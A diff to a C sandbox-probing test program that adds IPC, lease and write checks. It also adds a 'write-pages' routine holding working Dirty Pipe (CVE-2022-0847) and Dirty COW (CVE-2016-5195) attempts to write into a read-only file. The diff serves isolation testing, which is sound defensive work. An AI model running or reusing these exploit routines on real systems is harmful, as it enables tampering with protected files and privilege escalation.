@@ -21,10 +21,15 @@
 #include <string.h>
 #include <sys/file.h>
 #include <sys/ioctl.h>
+#include <sys/ipc.h>
+#include <sys/mman.h>
 #include <sys/mount.h>
+#include <sys/msg.h>
 #include <sys/personality.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
+#include <sys/sem.h>
+#include <sys/shm.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
@@ -372,6 +377,41 @@ static void fill(const char *directory) {
     printf("made: %ld\n", made);
 }
 
+/* What programs find each other by in System V's way, made or only looked for. */
+static void by_key(int flags) {
+    met("memory", shmget(4711, 4096, flags | 0666));
+    met("messages", msgget(4711, flags | 0666));
+    met("semaphores", semget(4711, 1, flags | 0666));
+}
+
+static volatile int done;
+static void *forget(void *page) {
+    while (!done) madvise(page, 4096, MADV_DONTNEED);
+    return 0;
+}
+
+/* Ways in which kernels have let somebody write pages of a file that he could only read. */
+static void write_pages(const char *path) {
+    static char bytes[65536];
+    int file = open(path, O_RDONLY), ends_of[2], memory = open("/proc/self/mem", O_RDWR);
+    loff_t begin = 0;
+    /* CVE-2022-0847: pages of a pipe keep the flag that more may be written to them. */
+    if (pipe(ends_of) == 0 && write(ends_of[1], bytes, sizeof bytes) > 0 && read(ends_of[0], bytes, sizeof bytes) > 0 &&
+        splice(file, &begin, ends_of[1], 0, 1, 0) == 1 && write(ends_of[1], "!!", 2) == 2)
+        puts("pipe: tried");
+    /* CVE-2016-5195: a page is forgotten between its copy and the write to it. */
+    char *page = mmap(0, 4096, PROT_READ, MAP_PRIVATE, file, 0);
+    pthread_t thread;
+    pthread_create(&thread, 0, forget, page);
+    long written = 0;
+    for (int round = 0; round < 100000; round++) written += pwrite(memory, "!!", 2, (off_t)page) == 2;
+    done = 1;
+    pthread_join(thread, 0);
+    if (written > 0) puts("copy: tried");
+    met("shared mapping", mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0);
+    met("protection", mprotect(mmap(0, 4096, PROT_READ, MAP_SHARED, file, 0), 4096, PROT_READ | PROT_WRITE));
+}
+
 int main(int count, char **words) {
     const char *verb = count > 1 ? words[1] : "", *first = count > 2 ? words[2] : "";
     if (!strcmp(verb, "calls")) calls();
@@ -386,6 +426,11 @@ int main(int count, char **words) {
     else if (!strcmp(verb, "lock")) met("lock", flock(open(first, O_RDONLY), LOCK_EX | LOCK_NB)), count > 3 && pause();
     else if (!strcmp(verb, "add-key")) met("add", syscall(SYS_add_key, "user", "secret", "x", 1, atoi(first)));
     else if (!strcmp(verb, "find-key")) met("find", syscall(SYS_keyctl, 10, atoi(first), "user", "secret", 0));
+    else if (!strcmp(verb, "make-keys")) by_key(IPC_CREAT);
+    else if (!strcmp(verb, "find-keys")) by_key(0);
+    else if (!strcmp(verb, "write-pages")) write_pages(first);
+    else if (!strcmp(verb, "lease")) met("lease", fcntl(open(first, O_RDONLY), F_SETLEASE, F_RDLCK)), count > 3 && pause();
+    else if (!strcmp(verb, "write-now")) met("writing", open(first, O_WRONLY | O_NONBLOCK));
     else if (!strcmp(verb, "write")) met(first, open(first, O_WRONLY));
     else return 2;
     return 0;
